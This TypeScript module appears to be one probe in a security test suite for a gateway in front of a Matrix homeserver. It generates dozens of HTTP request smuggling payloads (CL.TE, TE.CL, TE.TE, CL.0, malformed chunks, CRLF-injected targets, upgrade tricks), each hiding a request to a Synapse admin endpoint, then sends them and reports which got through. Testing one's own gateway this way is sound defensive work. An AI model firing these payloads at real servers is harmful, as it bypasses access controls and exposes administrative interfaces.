/** Requests hidden in the body of another: what the gateway takes for a body, the homeserver would take for a request. */
import { administrationSince, countsOf, inTurns, type Outcome, sendRaw, statusOf, type Target } from "./attack.ts";
import { http2Requests } from "./rawHttp2.ts";

const hidden = "/_synapse/admin/v1/server_version";
const carrier = "POST /_matrix/client/v3/login HTTP/1.1\r\nHost: localhost\r\n";
const inner = `GET ${hidden} HTTP/1.1\r\nHost: localhost\r\n\r\n`;

/** Ways to say that a body is in chunks that one side may not understand. */
const encodings = [
    "Transfer-Encoding: chunked",
    "Transfer-Encoding : chunked",
    "Transfer-Encoding:\tchunked",
    "Transfer-Encoding:\x0bchunked",
    " Transfer-Encoding: chunked",
    "X: x\nTransfer-Encoding: chunked",
    "X: x\rTransfer-Encoding: chunked",
    "Transfer-Encoding\r\n : chunked",
    "Transfer-Encoding:\r\n chunked",
    "Transfer-Encoding: xchunked",
    "Transfer-Encoding: chunked, identity",
    "Transfer-Encoding: identity, chunked",
    "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    'Transfer-Encoding: "chunked"',
    "Transfer-Encoding: CHUNKED",
    "Transfer-Encoding: chunked\x00",
    "Transfer-Encoding: chunked;q=1",
    "Transfer_Encoding: chunked",
    "TrAnSfEr-EnCoDiNg: chunked",
    "Content-Encoding: chunked\r\nTE: chunked",
];
const lengths = (size: number) => [
    `Content-Length: ${size}\r\nContent-Length: 0`,
    `Content-Length: 0\r\nContent-Length: ${size}`,
    `Content-Length: 0, ${size}`,
    `Content-Length: +${size}`,
    `Content-Length: -1`,
    `Content-Length: ${size}_0`,
    `Content-Length: 0x${size.toString(16)}`,
    `Content-Length: 0${size}`,
    `Content-Length : ${size}`,
    `Content-Length:\r\n ${size}`,
    `Content-Length: 0\nX: x`,
    `Content-Length: 18446744073709551616`,
    `Content-Length: ${size} 0`,
    `Content_Length: ${size}`,
    `Content-Length: 0\r\nContent-Length : ${size}`,
];

function http1Requests(): string[] {
    const chunked = `0\r\n\r\n${inner}`;
    const one = `${inner.length.toString(16)}\r\n${inner}\r\n0\r\n\r\n`;
    return [
        // CL.TE, TE.CL and TE.TE: both headers in either order, with either side's end of the body.
        ...encodings.flatMap((encoding) => [
            `${carrier}Content-Length: ${chunked.length}\r\n${encoding}\r\n\r\n${chunked}`,
            `${carrier}${encoding}\r\nContent-Length: ${chunked.length}\r\n\r\n${chunked}`,
            `${carrier}Content-Length: 4\r\n${encoding}\r\n\r\n${one}`,
            `${carrier}${encoding}\r\n\r\n${chunked.slice(0, 5)}${inner}`,
        ]),
        // CL.CL, and a length that one side does not read.
        ...lengths(inner.length).map((length) => `${carrier}${length}\r\n\r\n${inner}`),
        // CL.0: a body where none is expected.
        ...["GET", "HEAD", "OPTIONS", "DELETE", "TRACE"].map(
            (method) => `${method} /_matrix/client/versions HTTP/1.1\r\nHost: localhost\r\nContent-Length: ${inner.length}\r\n\r\n${inner}`,
        ),
        // Chunks with sizes and ends of another taste.
        ...[
            `0;\r\n\r\n${inner}`,
            `0\n\n${inner}`,
            `0x0\r\n\r\n${inner}`,
            `00000000000000000\r\n\r\n${inner}`,
            `5;a\nb\r\nhello\r\n0\r\n\r\n${inner}`,
            `3\r\nabcd\r\n0\r\n\r\n${inner}`,
            `ffffffffffffffff0\r\n\r\n${inner}`,
            `0\r\nX: y\r\n${inner}`,
            `-1\r\n${inner}`,
            `2\r\n{}\r\n0\r\nContent-Length: 3\r\n\r\n${inner}`,
        ].map((body) => `${carrier}Transfer-Encoding: chunked\r\n\r\n${body}`),
        // Ends of lines, folded headers, and requests within a header or the target.
        `${carrier.replaceAll("\r\n", "\n")}Content-Length: 0\n\n${inner}`,
        `${carrier.replaceAll("\r\n", "\r")}Content-Length: 0\r\r${inner}`,
        `GET /_matrix/client/versions HTTP/1.1\r\nHost: localhost\r\nX: a\r\n b\r\n ${inner}`,
        `GET /_matrix/client/versions HTTP/1.1\r\nHost: localhost\r\nX: a\n\n${inner}`,
        `GET /_matrix/client/versions?%0d%0a%0d%0aGET%20${hidden}%20HTTP/1.1%0d%0aHost:%20x HTTP/1.1\r\nHost: localhost\r\n\r\n`,
        `GET /_matrix/client/versions\r\n\r\nGET ${hidden} HTTP/1.1\r\nHost: localhost\r\n\r\n`,
        `GET /_matrix/client/versions HTTP/1.1\x00GET ${hidden} HTTP/1.1\r\nHost: localhost\r\n\r\n`,
        // Another protocol on the connection behind.
        ...["h2c", "websocket", "TLS/1.0"].map(
            (protocol) =>
                `GET /_matrix/client/versions HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: ${protocol}\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\nSec-WebSocket-Key: dGVzdA==\r\nSec-WebSocket-Version: 13\r\n\r\n${inner}`,
        ),
        // A homeserver that answers early: the rest must not be a request.
        `${carrier}Expect: 100-continue\r\nContent-Length: ${inner.length}\r\n\r\n${inner}`,
        `${carrier}Content-Length: 100000000\r\n\r\n${inner.repeat(10_000)}`,
        `${carrier.replace("client/v3/login", "media/v3/upload")}Content-Length: 100000000\r\n\r\n${inner.repeat(1_000_000)}`,
        `${carrier.replace("client/v3/login", "media/v3/upload")}Transfer-Encoding: chunked\r\n\r\n${`${(inner.length * 1000).toString(16)}\r\n${inner.repeat(1000)}\r\n`.repeat(1000)}`,
    ];
}

export async function smuggle(target: Target): Promise<Outcome> {
    const since = new Date();
    const http1 = http1Requests();
    const answers = await inTurns(http1, 8, async (bytes) => (await sendRaw(target, Buffer.from(bytes, "latin1"))).toString("latin1"));
    const http2 = http2Requests(hidden);
    await inTurns(http2, 8, (bytes) => sendRaw(target, bytes, 1000, "h2"));
    // A second request that the gateway itself has seen, it has refused: that one was not hidden.
    const served = await administrationSince(target, since);
    // After an answer that came before the end of the body, nothing may be taken for a request.
    const early = answers.filter((answer) => /HTTP\/1\.1 413/.test(answer) && answer.split("HTTP/1.1 ").length > 2);
    return {
        tried: "request smuggling",
        times: http1.length + http2.length,
        succeeded: [...served, ...early.map((answer) => `two answers: ${answer.slice(0, 1000)}`)],
        seen: `HTTP/1.1: ${countsOf(answers.map(statusOf))}; ${http2.length} over HTTP/2`,
    };
}
